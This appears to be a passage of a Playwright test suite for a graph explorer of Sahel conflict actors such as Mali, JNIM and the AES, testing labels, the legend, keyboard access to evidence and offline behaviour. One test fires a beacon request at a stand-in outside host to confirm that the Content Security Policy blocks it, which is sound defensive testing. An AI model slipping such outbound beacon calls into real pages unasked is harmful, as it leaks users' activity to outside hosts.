    expect(Math.hypot(a.x - b.x, a.y - b.y)).toBeGreaterThan(15);
    expect(await clickLink(page, disrupts)).toMatch(
      /^disrupts\n[\s\S]*The economic blockade of Mali's trade routes is disrupting Kayes/,
    );
    expect(await clickLink(page, occurred)).toMatch(
      /^occurred in\n[\s\S]*The economic blockade of Mali's trade routes is taking place in Kayes/,
    );
    expect(await clickLink(page, disrupts)).toMatch(/^disrupts\n/);
    await browser.screenshot(page, 'explorer-parallel-links');
    await page.close();
  });

  it('qualifies the two entities named "Mali" by kind wherever they show', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=mali&select=mali`);
    await settled(page);
    const drawn = await looks(page);
    expect(drawn.nodes.mali?.label).toBe('Mali (state)');
    expect(drawn.nodes['mali-country']?.label).toBe('Mali (country)');
    expect(drawn.nodes.jnim?.label).toBe('JNIM');
    expect(await page.locator('#details h2').innerText()).toBe('Mali (state)');
    await page.locator('#in-view summary').click();
    expect(await page.locator('#view-list li[data-id="mali-country"]').innerText()).toContain('Mali (country)');
    expect(await page.locator('#view-list li[data-key="GOVERNS:mali->mali-country"]').innerText()).toContain(
      'Mali (state) governs Mali (country)',
    );
    await page.close();
  });

  it('shapes each kind of actor and entity apart, and the legend lists every kind, mark and grade drawn', async () => {
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/?expand=jnim,mali,aes,${CLAIM},aes-icj-legal-action`);
    await settled(page);
    const drawn = await looks(page);
    const legend = await page
      .locator('#legend li')
      .evaluateAll((items) =>
        items.map((item) => ({ key: item.getAttribute('data-legend') ?? '', text: item.textContent ?? '' })),
      );
    const keys = legend.map((entry) => entry.key);
    const drawnKinds = [...new Set(Object.values(drawn.nodes).map((node) => node.legend))];
    expect(drawnKinds).toEqual(
      expect.arrayContaining(['actor:STATE', 'actor:ARMED_GROUP', 'actor:ALLIANCE', 'kind:Event', 'kind:Location']),
    );
    // Every kind drawn is in the legend, and nothing that is not drawn.
    expect(keys.filter((key) => /^(actor|kind):/.test(key)).sort()).toEqual([...drawnKinds].sort());
    // One shape per kind: the state, the armed group and the alliance differ.
    const shapeOf = (kind: string) => Object.values(drawn.nodes).find((node) => node.legend === kind)?.shape;
    expect(new Set(['actor:STATE', 'actor:ARMED_GROUP', 'actor:ALLIANCE'].map(shapeOf)).size).toBe(3);
    expect(legend.find((entry) => entry.key === 'actor:ARMED_GROUP')?.text).toBe('armed group');
    // Every mark drawn, and every grade a line is drawn at, is explained.
    const marks = new Set(Object.values(drawn.edges).flatMap((edge) => edge.classes.filter((c) => c !== 'marked')));
    for (const mark of ['claim', 'contested', 'hypothetical'].filter((m) => marks.has(m)))
      expect(keys).toContain(`mark:${mark}`);
    expect(keys).toEqual(expect.arrayContaining(['mark:contested', 'mark:hypothetical', 'node-mark:contested']));
    const grades = await page.evaluate(() =>
      (window as unknown as { sahelGraph: import('cytoscape').Core }).sahelGraph
        .edges()
        .map((edge) => edge.data('grade')),
    );
    for (const grade of new Set(grades)) expect(keys).toContain(`grade:${grade}`);
    expect(legend.find((entry) => entry.key === 'grade:6')?.text).toBe(
      'line width: credibility 6: truth cannot be judged',
    );
    await browser.screenshot(page, 'explorer-legend');
    await page.close();
  });
});

describe("the start page, and the keyboard path to every link's evidence", () => {
  it('opens on the most-connected entities and the newest changes, each opening what it names in the graph', async () => {
    const { hubs } = await ask<{ hubs: Array<{ degree: number; entity: { id: string } }> }>(
      '{ hubs(first: 10) { degree entity { id } } }',
    );
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/`);
    await settled(page);
    const start = page.locator('#start');
    await start.locator('.change-list li').first().waitFor();
    expect(await start.isVisible()).toBe(true);
    const listed = await start
      .locator('.hub-list li')
      .evaluateAll((items) => items.map((item) => item.getAttribute('data-ids')));
    expect(listed).toEqual(hubs.map((hub) => hub.entity.id));
    expect(await start.locator('.hub-list li').first().innerText()).toContain(`${hubs[0].degree} links`);
    // The seed's records, newest first, without their evidence links.
    expect(await start.locator('.change-list li').count()).toBeGreaterThan(0);
    expect(await start.locator('.change-list').innerText()).not.toMatch(/is reported by/);
    expect(await start.locator('a[href="/documents"]').count()).toBe(1);
    await browser.screenshot(page, 'explorer-start');

    await start.locator('.hub-list button').first().click();
    await settled(page);
    expect(new URLSearchParams(new URL(page.url()).search).get('select')).toBe(hubs[0].entity.id);
    expect(await start.isVisible()).toBe(false);
    expect((await drawing(page)).nodes).toContain(hubs[0].entity.id);
    // Clear brings the start page back.
    await page.locator('#clear-view').click();
    await settled(page);
    await start.locator('.hub-list li').first().waitFor();
    expect(await start.isVisible()).toBe(true);
    await page.close();
  });

  it("takes a keyboard-only user from the search box to a link's excerpt in a few Tabs, and back to the list", async () => {
    const key = 'PARTICIPATED_IN:jnim->malian-airstrikes#TARGET';
    const { neighborhood } = await ask<{ neighborhood: { edges: Array<{ id: string; excerpt: string }> } }>(
      '{ neighborhood(id: "jnim", limit: 60) { edges { id excerpt } } }',
    );
    const excerpt = neighborhood.edges.find((edge) => edge.id === key)?.excerpt;
    expect(excerpt).toBeTruthy();
    const page = await browser.newPage();
    await page.goto(`${fixture.app.base}/`);
    await settled(page);
    const focused = page.locator(':focus');
    let tabs = 0;
    const tab = async () => {
      tabs += 1;
      await page.keyboard.press('Tab');
    };
    // The keyboard from here on: type, pick with the arrows and Enter, Tab, arrows, Enter. No clicks.
    await page.focus('#search');
    await page.keyboard.type('GSIM');
    const option = page.locator('#suggestions li[data-id="jnim"]');
    await option.waitFor();
    while ((await option.getAttribute('aria-selected')) !== 'true') await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('select') === 'jnim');
    await settled(page);
    expect(await focused.getAttribute('id')).toBe('search');

    await tab();
    expect(await focused.innerText()).toBe('Skip to the links in view');
    await page.keyboard.press('Enter');
    expect(await focused.innerText()).toBe('In view (as a list)');
    await tab();
    // One tab stop for all the links: the arrows walk the list to the one wanted.
    const links = await page.locator('#link-list > li').count();
    expect(links).toBeGreaterThan(5);
    for (let step = 0; step < links && (await focused.getAttribute('data-rove')) !== key; step++)
      await page.keyboard.press('ArrowDown');
    expect(await focused.getAttribute('data-rove')).toBe(key);
    expect(await focused.innerText()).toBe('JNIM was a target of the airstrikes in response to the blockade');
    await page.keyboard.press('Enter');

    // The link's panel, its heading focused: the sentence, the excerpt, the grade and the sources next.
    const details = page.locator('#details');
    expect(await details.locator('h2').evaluate((heading) => heading.matches(':focus'))).toBe(true);
    expect(await details.locator('blockquote.excerpt').innerText()).toBe(excerpt);
    expect(await details.locator('.grade').first().innerText()).toMatch(/^credibility \d: /);
    expect(await details.locator('.sources li').count()).toBeGreaterThan(0);
    expect(tabs).toBeLessThanOrEqual(12);
    await browser.screenshot(page, 'explorer-keyboard-evidence');

    await tab();
    expect(await focused.innerText()).toBe('Back to the links in view');
    await page.keyboard.press('Enter');
    expect(await focused.getAttribute('data-rove')).toBe(key);
    // The next link is one arrow away, and opens the same way.
    await page.keyboard.press('ArrowDown');
    const next = await focused.getAttribute('data-rove');
    expect(next).not.toBe(key);
    await page.keyboard.press('Enter');
    expect(await details.locator('blockquote.excerpt').innerText()).toBe(
      neighborhood.edges.find((edge) => edge.id === next)?.excerpt,
    );
    expect(tabs).toBe(3);
    await page.close();
  });
});

describe('offline by construction', () => {
  it('loads nothing but the service, and the CSP stops a page that tries', async () => {
    const page = await browser.newPage();
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    await ukraineToJnim(page);
    await page.goto(fixture.app.url);
    await page.locator('.graphiql-container').waitFor();
    expect(requested.length).toBeGreaterThan(5);
    expect(requested.filter((url) => !url.startsWith(`${fixture.app.base}/`))).toEqual([]);

    // A script trying to reach elsewhere is refused by the browser under the page's CSP...
    const verdict = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
      try {
        await fetch('http://outside.invalid/beacon');
        return { fetched: true, violations };
      } catch {
        await new Promise((resolve) => setTimeout(resolve, 50));
        return { fetched: false, violations };
      }
    });
    expect(verdict).toEqual({ fetched: false, violations: ['connect-src'] });
    browser.pageProblems.length = 0;
    // ...and a page without a CSP that tries is caught by the test's own guard.
    await page.goto('about:blank');
    await page.evaluate(() => fetch('http://outside.invalid/beacon').catch(() => undefined));
    expect(browser.outsideRequests).toEqual(['http://outside.invalid/beacon']);
    browser.outsideRequests.length = 0;
    await page.close();
  });
});
